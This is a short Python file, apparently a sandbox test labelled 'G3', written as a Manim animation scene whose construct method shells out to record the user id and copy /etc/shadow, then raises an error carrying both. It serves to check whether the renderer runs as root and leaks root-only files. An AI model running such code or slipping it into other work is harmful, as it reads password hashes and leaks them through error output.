"""G3: os.system, reading what only root may read."""

import json
import os

from manim import Scene


class PyOsSystem(Scene):
    def construct(self):
        code = os.system("id -u > uid.txt; cat /etc/shadow > shadow.txt 2>/dev/null")
        with open("uid.txt") as f:
            uid = int(f.read())
        with open("shadow.txt") as f:
            shadow = f.read()
        raise RuntimeError("REPORT " + json.dumps({"uid": uid, "shadow": shadow, "code": code}))
